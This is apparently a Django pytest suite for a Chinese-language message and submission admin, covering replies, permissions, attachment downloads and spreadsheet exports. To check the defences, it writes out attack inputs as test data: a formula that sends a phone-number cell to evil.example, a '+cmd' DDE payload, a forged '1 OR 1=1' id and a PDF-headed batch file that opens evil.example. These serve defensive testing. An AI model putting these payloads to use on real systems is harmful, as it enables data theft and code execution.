import csv
import io
from datetime import timedelta

import openpyxl
import pytest
from django.contrib.auth.models import Group, Permission
from django.core import mail
from django.core.files.base import ContentFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from editorial.roles import EDITOR, PUBLISHER
from publicforms.storage import PrivateStorage
from submissions.models import Message, Submission, SubmissionAttachment
from submissions.resources import MessageResource, SubmissionResource

pytestmark = pytest.mark.django_db

# The attachments inline is read-only, but its management form is always posted.
INLINE = {
    "attachments-TOTAL_FORMS": "0",
    "attachments-INITIAL_FORMS": "0",
    "attachments-MIN_NUM_FORMS": "0",
    "attachments-MAX_NUM_FORMS": "1000",
}


@pytest.fixture
def attachment(make_submission, pdf_bytes):
    submission = make_submission()
    name = PrivateStorage().save("submissions/test/abc123.pdf", ContentFile(pdf_bytes))
    return SubmissionAttachment.objects.create(
        submission=submission,
        file=name,
        original_name="年度报告（终稿）.pdf",
        kind="pdf",
        content_type="application/pdf",
        size=len(pdf_bytes),
    )


def test_every_submissions_admin_page_renders_with_rows(superuser_client, make_message, attachment):
    make_message()
    make_message(published=True)
    for model in (Message, Submission):
        opts = model._meta
        changelist = reverse(f"admin:{opts.app_label}_{opts.model_name}_changelist")
        assert superuser_client.get(changelist).status_code == 200
        assert superuser_client.get(changelist, {"q": "协会"}).status_code == 200
        for obj in model.objects.all():
            change = reverse(f"admin:{opts.app_label}_{opts.model_name}_change", args=[obj.pk])
            assert superuser_client.get(change).status_code == 200
        # the public writes these; nobody adds them by hand
        add = reverse(f"admin:{opts.app_label}_{opts.model_name}_add")
        assert superuser_client.get(add).status_code == 403


def test_admin_index_shows_work_queues_with_counts(superuser_client, make_message, make_submission):
    make_message()
    make_message()
    make_message(published=True)
    make_submission()
    make_submission(status="reviewing")
    make_submission(status="accepted")
    html = superuser_client.get("/admin/").content.decode()
    assert "待回复留言" in html and "待审稿件" in html
    assert '<strong class="queue-count">2</strong>' in html
    assert "新收到 1 篇，审阅中 1 篇" in html
    assert "/admin/submissions/message/?status__exact=pending&amp;o=6" in html
    assert "/admin/submissions/submission/?status__in=received,reviewing" in html
    filtered = superuser_client.get("/admin/submissions/submission/?status__in=received,reviewing")
    assert filtered.status_code == 200 and filtered.context["cl"].result_count == 2


def test_messages_waiting_longest_come_first_with_how_long_they_waited(
    superuser_client, make_message
):
    now = timezone.now()
    for subject, days in (("三天前的留言", 3), ("十天前的留言", 10), ("今天的留言", 0)):
        message = make_message(subject=subject)
        Message.objects.filter(pk=message.pk).update(created_at=now - timedelta(days=days))
    make_message(subject="已回复的留言", published=True)
    html = superuser_client.get("/admin/").content.decode()
    waiting = html.split('class="dash-list"')[1].split("</ol>")[0]
    assert (
        waiting.index("十天前的留言") < waiting.index("三天前的留言") < waiting.index("今天的留言")
    )
    assert "已回复的留言" not in waiting
    assert "已等待 1\xa0周，3\xa0日" in waiting and "已等待 3\xa0日" in waiting
    # the link lists the same messages, oldest first
    response = superuser_client.get("/admin/submissions/message/?status__exact=pending&o=6")
    subjects = [m.subject for m in response.context["cl"].result_list]
    assert subjects == ["十天前的留言", "三天前的留言", "今天的留言"]


def test_queue_counts_use_a_fixed_number_of_queries(
    superuser_client, make_message, django_assert_num_queries
):
    make_message()
    superuser_client.get("/admin/")
    with CaptureQueriesContext(connection) as few:
        superuser_client.get("/admin/")
    queries = len(few)  # now: the next request empties the connection's query log
    for _ in range(30):
        make_message()
    superuser_client.get("/admin/")
    with django_assert_num_queries(queries):
        superuser_client.get("/admin/")


def test_saving_a_reply_while_pending_keeps_it_a_draft_nobody_sees_or_is_mailed(
    superuser_client, reader, make_message, django_capture_on_commit_callbacks
):
    message = make_message(subject="开发区政策咨询")
    url = reverse("admin:submissions_message_change", args=[message.pk])
    assert 'name="_publish_reply"' in superuser_client.get(url).content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        response = superuser_client.post(
            url, {"reply": "草稿：待核实后答复。", "status": "pending"}, follow=True
        )
    assert "回复已保存为草稿" in response.content.decode()
    message.refresh_from_db()
    assert message.status == Message.Status.PENDING and message.replied_at is None
    assert message.reply == "草稿：待核实后答复。" and mail.outbox == []
    assert "开发区政策咨询" not in reader.get("/messages/").content.decode()
    lookup = reader.get("/messages/lookup/", {"code": message.code}).content.decode()
    assert "草稿：待核实后答复。" not in lookup


def test_publish_button_without_a_reply_is_refused(superuser_client, make_message):
    message = make_message()
    url = reverse("admin:submissions_message_change", args=[message.pk])
    response = superuser_client.post(
        url, {"reply": " ", "status": "pending", "_publish_reply": "保存并公开"}
    )
    assert response.status_code == 200
    assert "公开前请先填写官方回复。" in response.content.decode()
    message.refresh_from_db()
    assert message.status == "pending"


def test_replying_in_admin_publishes_stamps_and_mails_the_sender(
    superuser_client, superuser, make_message, django_capture_on_commit_callbacks
):
    message = make_message()
    url = reverse("admin:submissions_message_change", args=[message.pk])
    with django_capture_on_commit_callbacks(execute=True):
        response = superuser_client.post(
            url,
            {"reply": "您好，已为您登记。", "status": "pending", "_publish_reply": "保存并公开"},
        )
    assert response.status_code == 302
    message.refresh_from_db()
    assert message.status == Message.Status.PUBLISHED
    assert message.replied_by == superuser and message.replied_at is not None
    assert [m.to for m in mail.outbox] == [["wangwu@example.com"]]
    assert "您好，已为您登记。" in mail.outbox[0].body and message.code in mail.outbox[0].body
    board = superuser_client.get("/messages/").content.decode()
    assert "您好，已为您登记。" in board


@pytest.mark.parametrize("status", ["hidden", "spam"])
def test_a_private_reply_is_mailed_and_never_reaches_the_board_or_the_lookup(
    superuser_client, reader, make_message, django_capture_on_commit_callbacks, status
):
    """Choosing 不公开 and writing a reply used to publish message and reply."""
    message = make_message(subject="只想私下咨询")
    url = reverse("admin:submissions_message_change", args=[message.pk])
    with django_capture_on_commit_callbacks(execute=True):
        response = superuser_client.post(url, {"reply": "这是只给您的答复。", "status": status})
    assert response.status_code == 302
    message.refresh_from_db()
    assert message.status == status and message.replied_at is not None
    assert "这是只给您的答复。" in mail.outbox[0].body
    assert "只想私下咨询" not in reader.get("/messages/").content.decode()
    lookup = reader.get("/messages/lookup/", {"code": message.code}).content.decode()
    assert "这是只给您的答复。" not in lookup and "只想私下咨询" not in lookup


def test_reply_without_email_sends_no_mail(
    superuser_client, make_message, django_capture_on_commit_callbacks
):
    message = make_message(email="")
    url = reverse("admin:submissions_message_change", args=[message.pk])
    with django_capture_on_commit_callbacks(execute=True):
        superuser_client.post(url, {"reply": "已回复。", "status": "published"})
    message.refresh_from_db()
    assert message.status == "published" and mail.outbox == []


def test_publishing_without_a_reply_is_refused(superuser_client, make_message):
    message = make_message()
    url = reverse("admin:submissions_message_change", args=[message.pk])
    response = superuser_client.post(url, {"reply": "", "status": "published"})
    assert response.status_code == 200
    assert "公开前请先填写官方回复。" in response.content.decode()
    message.refresh_from_db()
    assert message.status == "pending"


def test_bulk_actions_hide_as_spam_and_publish_only_answered(superuser_client, make_message):
    spam = make_message(subject="广告")
    answered = make_message(published=True)
    unanswered = make_message()
    url = reverse("admin:submissions_message_changelist")
    superuser_client.post(url, {"action": "mark_spam", "_selected_action": [spam.pk, answered.pk]})
    assert set(Message.objects.filter(status="spam").values_list("pk", flat=True)) == {
        spam.pk,
        answered.pk,
    }
    assert "广告" not in superuser_client.get("/messages/").content.decode()
    response = superuser_client.post(
        url,
        {"action": "publish_answered", "_selected_action": [answered.pk, unanswered.pk]},
        follow=True,
    )
    assert "1 条尚未回复" in response.content.decode()
    answered.refresh_from_db()
    unanswered.refresh_from_db()
    assert answered.status == "published" and unanswered.status == "pending"


def test_board_count_cache_is_cleared_when_a_message_is_published(
    client, superuser_client, make_message
):
    for _ in range(15):
        make_message(published=True)
    client.get("/messages/")
    late = make_message()
    superuser_client.post(
        reverse("admin:submissions_message_change", args=[late.pk]),
        {"reply": "新回复", "status": "pending", "_publish_reply": "保存并公开"},
    )
    assert client.get("/messages/?page=2").status_code == 200


FORMULA = '=HYPERLINK("http://evil.example/?p="&E2,"详情")'
FORMATS = {"xlsx": 0, "csv": 1}


def export(client, model, objects, file_format):
    """What the export page sends for `objects` (the rows ticked in the changelist)."""
    resource = {Message: MessageResource, Submission: SubmissionResource}[model]
    prefix = resource.__name__.lower()
    url = reverse(f"admin:submissions_{model._meta.model_name}_export")
    return client.post(
        url,
        {
            "format": FORMATS[file_format],
            "resource": 0,
            "export_items": [o.pk for o in objects],
            **{f"{prefix}_{name}": "on" for name in resource.Meta.fields},
        },
    )


def csv_rows(response) -> list[list[str]]:
    raw = response.content
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads the Chinese as UTF-8
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def xlsx_rows(response) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    for row in sheet.iter_rows():
        assert all(cell.data_type != "f" for cell in row)  # no formula cell at all
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_messages_export_has_chinese_columns_and_keeps_the_text(superuser_client, make_message):
    message = make_message(subject="入会咨询，含逗号", content="第一行\n第二行")
    response = export(superuser_client, Message, [message], "csv")
    assert response.status_code == 200
    assert "attachment;" in response["Content-Disposition"]
    rows = csv_rows(response)
    assert rows[0][:3] == ["留言编号", "状态", "留言时间"]
    assert rows[1][0] == message.code and rows[1][1] == "待处理"
    assert rows[1][6] == "入会咨询，含逗号" and rows[1][7] == "第一行\n第二行"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_messages_export_neutralises_formulas(superuser_client, make_message, file_format):
    # Opened in Excel, the subject would send the sender's phone number (E2) away.
    message = make_message(subject=FORMULA, name="＝E2&F2", content="@SUM(A1:A9)", phone="+1+1")
    response = export(superuser_client, Message, [message], file_format)
    rows = csv_rows(response) if file_format == "csv" else xlsx_rows(response)
    name, phone, subject, content = rows[1][3], rows[1][4], rows[1][6], rows[1][7]
    assert subject == "'" + FORMULA
    assert (name, phone, content) == ("'＝E2&F2", "'+1+1", "'@SUM(A1:A9)")


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_submissions_export_neutralises_formulas(superuser_client, attachment, file_format):
    submission = attachment.submission
    submission.title, submission.author = "+cmd|' /C calc'!A0", "\t=1+1"
    submission.save()
    response = export(superuser_client, Submission, [submission], file_format)
    rows = csv_rows(response) if file_format == "csv" else xlsx_rows(response)
    assert rows[0][0] == "查询码" and rows[1][0] == submission.tracking_code
    assert rows[1][3] == "'+cmd|' /C calc'!A0" and rows[1][4] == "'\t=1+1"
    assert str(rows[1][9]) == "1"  # attachments


def test_export_is_offered_as_a_list_action_and_from_the_changelist(superuser_client, make_message):
    message = make_message()
    changelist = reverse("admin:submissions_message_changelist")
    html = superuser_client.get(changelist).content.decode()
    assert reverse("admin:submissions_message_export") in html
    response = superuser_client.post(
        changelist, {"action": "export_admin_action", "_selected_action": [message.pk]}
    )
    html = response.content.decode()
    assert response.status_code == 200
    assert "xlsx" in html and "csv" in html and str(message.pk) in html
    # a forged row number is not an error page
    forged = {
        "format": 1,
        "resource": 0,
        "export_items": ["1 OR 1=1"],
        "messageresource_code": "on",
    }
    response = superuser_client.post(reverse("admin:submissions_message_export"), forged)
    assert response.status_code == 200 and "text/html" in response["Content-Type"]


def test_staff_who_may_view_may_export_and_no_one_else(client, editor, django_user_model):
    export_url = reverse("admin:submissions_message_export")
    assert client.get(export_url).status_code == 302  # to the login page
    clerk = django_user_model.objects.create_user("clerk", password="x-pass-123", is_staff=True)
    client.force_login(clerk)
    assert client.get(export_url).status_code == 403
    client.force_login(editor)  # 编辑 read the queues, as before
    assert client.get(export_url).status_code == 200
    assert client.get(reverse("admin:submissions_submission_export")).status_code == 200


def test_change_page_lists_attachments_with_download_links(superuser_client, attachment):
    url = reverse("admin:submissions_submission_change", args=[attachment.submission.pk])
    html = superuser_client.get(url).content.decode()
    download = reverse("admin:submissions_attachment_download", args=[attachment.pk])
    assert download in html and "年度报告（终稿）.pdf" in html


def test_staff_download_streams_the_file_under_its_original_name(
    superuser_client, attachment, pdf_bytes
):
    url = reverse("admin:submissions_attachment_download", args=[attachment.pk])
    response = superuser_client.get(url)
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == pdf_bytes
    assert response["Content-Type"] == "application/pdf"
    assert "filename*=utf-8''%E5%B9%B4%E5%BA%A6" in response["Content-Disposition"]
    assert "private" in response["Cache-Control"] and "no-store" in response["Cache-Control"]


@pytest.mark.parametrize("extension", ["bat", "hta", "html"])
def test_a_file_is_downloaded_under_the_extension_of_the_kind_it_was_detected_as(
    client, superuser, submission_data, upload, extension
):
    # Starts like a PDF, so the form takes it; named and written to run when opened.
    content = b"%PDF-1.7\r\n@echo off\r\nstart https://evil.example/\r\n"
    response = client.post(
        "/contribute/",
        {**submission_data(), "attachments": [upload(f"投稿说明.{extension}", content)]},
        REMOTE_ADDR="203.0.113.9",
    )
    assert response.status_code == 302
    attachment = SubmissionAttachment.objects.get()
    client.force_login(superuser)
    download = client.get(reverse("admin:submissions_attachment_download", args=[attachment.pk]))
    assert download.status_code == 200
    # 投稿说明.pdf, percent-encoded as RFC 5987 asks
    expected = "attachment; filename*=utf-8''%E6%8A%95%E7%A8%BF%E8%AF%B4%E6%98%8E.pdf"
    assert download["Content-Disposition"] == expected
    assert download["Content-Type"] == "application/pdf"
    assert download["X-Content-Type-Options"] == "nosniff"
    assert b"".join(download.streaming_content) == content


def test_download_is_refused_to_the_public_and_to_staff_without_permission(
    client, django_user_model, attachment
):
    url = reverse("admin:submissions_attachment_download", args=[attachment.pk])
    response = client.get(url)
    assert response.status_code == 302 and "/admin/login/" in response["Location"]
    clerk = django_user_model.objects.create_user("clerk", password="x-pass-123", is_staff=True)
    client.force_login(clerk)
    assert client.get(url).status_code == 403


def test_editor_role_can_read_queues_and_download_but_not_change(client, editor, attachment):
    client.force_login(editor)
    assert (
        client.get(
            reverse("admin:submissions_attachment_download", args=[attachment.pk])
        ).status_code
        == 200
    )
    change = reverse("admin:submissions_submission_change", args=[attachment.submission.pk])
    response = client.post(change, {"status": "accepted", "editor_note": "x", **INLINE})
    assert response.status_code == 403
    assert "待审稿件" in client.get("/admin/").content.decode()


def test_roles_carry_the_declared_permissions():
    editor = set(Group.objects.get(name=EDITOR).permissions.values_list("codename", flat=True))
    publisher = set(
        Group.objects.get(name=PUBLISHER).permissions.values_list("codename", flat=True)
    )
    assert {"view_message", "view_submission"} <= editor
    assert "change_message" not in editor and "change_submission" not in editor
    assert {
        "change_message",
        "delete_message",
        "change_submission",
        "delete_submission",
    } <= publisher
    assert Permission.objects.filter(codename="view_submissionattachment").exists()


def test_publisher_changes_status_with_a_note_and_the_author_is_told(
    client, publisher, make_submission, django_capture_on_commit_callbacks
):
    submission = make_submission()
    client.force_login(publisher)
    url = reverse("admin:submissions_submission_change", args=[submission.pk])
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            url, {"status": "reviewing", "editor_note": "已转编辑部审阅。", **INLINE}
        )
    assert response.status_code == 302
    submission.refresh_from_db()
    assert submission.status == "reviewing" and submission.reviewed_by == publisher
    assert [m.to for m in mail.outbox] == [["zhaoliu@example.com"]]
    assert "审阅中" in mail.outbox[0].subject and "已转编辑部审阅。" in mail.outbox[0].body
    status = client.post(
        "/contribute/status/", {"code": submission.tracking_code, "contact": "zhaoliu@example.com"}
    ).content.decode()
    assert "审阅中" in status and "已转编辑部审阅。" in status


def test_status_cannot_leave_accepted(superuser_client, make_submission):
    submission = make_submission(status="accepted")
    url = reverse("admin:submissions_submission_change", args=[submission.pk])
    response = superuser_client.post(url, {"status": "received", "editor_note": "", **INLINE})
    assert response.status_code == 200
    assert "不能从“已采用”改为“已收到”" in response.content.decode()


def test_mark_reviewing_action_moves_only_received(superuser_client, make_submission):
    fresh = make_submission()
    done = make_submission(status="rejected")
    superuser_client.post(
        reverse("admin:submissions_submission_changelist"),
        {"action": "mark_reviewing", "_selected_action": [fresh.pk, done.pk]},
    )
    fresh.refresh_from_db()
    done.refresh_from_db()
    assert fresh.status == "reviewing" and done.status == "rejected"
